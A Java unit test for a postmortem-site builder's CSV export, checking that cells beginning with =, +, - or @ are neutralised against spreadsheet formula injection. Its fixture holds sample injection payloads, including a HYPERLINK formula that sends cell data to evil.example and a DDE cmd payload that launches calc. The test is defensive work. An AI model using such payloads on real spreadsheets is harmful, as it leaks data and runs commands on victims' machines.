package dev.hindsight.build;

import dev.hindsight.api.BuildOptions;
import static org.assertj.core.api.Assertions.assertThat;

import dev.hindsight.Hindsight;
import dev.hindsight.SiteFixture;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code api/action-items.csv} opened in a spreadsheet: a cell that starts with {@code = + - @}, a tab
 * or a carriage return would be taken as a formula (CSV injection). Such cells are written the way
 * OWASP recommends: prefixed with {@code '} and quoted. (Tab and carriage return, which Markdown and
 * front matter trim, are covered by {@code render.ApiFilesCsvTest}.)
 */
class SpreadsheetSafeCsvTest {

    @TempDir
    Path tmp;

    @Test
    void cellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() throws Exception {
        Path src = SiteFixture.write(tmp.resolve("src"), """
                -- hindsight.yml --
                title: KB
                -- postmortems/p.md --
                ---
                title: "+SUM(A1) title"
                id: "=1+2"
                ---
                ## Action items

                | Action | Owner | Due | Status | Ticket |
                |--------|-------|-----|--------|--------|
                | =HYPERLINK("http://evil.example/?x="&A1,"click") | @sre | 2024-05-01 | open | |
                | +cmd\\|' /C calc'!A0 | -team | 2024-05-02 | open | |
                | plain, with a comma | ops | 2024-05-03 | done | |
                | a = b - c + d @ e | ops | 2024-05-04 | done | |
                -- postmortems/q.md --
                ---
                title: Plain title
                id: "@SUM(1)"
                ---
                ## Action items

                - [ ] -2+3 owner: ops due: 2024-06-01
                """);
        Path out = tmp.resolve("out");

        new Hindsight().build(BuildOptions.build(src, out));

        String csv = new String(Files.readAllBytes(out.resolve("api/action-items.csv")), StandardCharsets.UTF_8);
        assertThat(csv).isEqualTo(
                "postmortem_id,postmortem_title,postmortem_url,action,owner,due,status,overdue,ticket,ticket_url\r\n"
                + "\"'=1+2\",\"'+SUM(A1) title\",postmortems/p/index.html,"
                + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'@sre\",2024-05-01,open,false,,\r\n"
                + "\"'=1+2\",\"'+SUM(A1) title\",postmortems/p/index.html,\"'+cmd|' /C calc'!A0\",\"'-team\",2024-05-02,open,false,,\r\n"
                + "\"'=1+2\",\"'+SUM(A1) title\",postmortems/p/index.html,\"plain, with a comma\",ops,2024-05-03,done,false,,\r\n"
                + "\"'=1+2\",\"'+SUM(A1) title\",postmortems/p/index.html,a = b - c + d @ e,ops,2024-05-04,done,false,,\r\n"
                + "\"'@SUM(1)\",Plain title,postmortems/q/index.html,\"'-2+3\",ops,2024-06-01,open,false,,\r\n");
    }
}
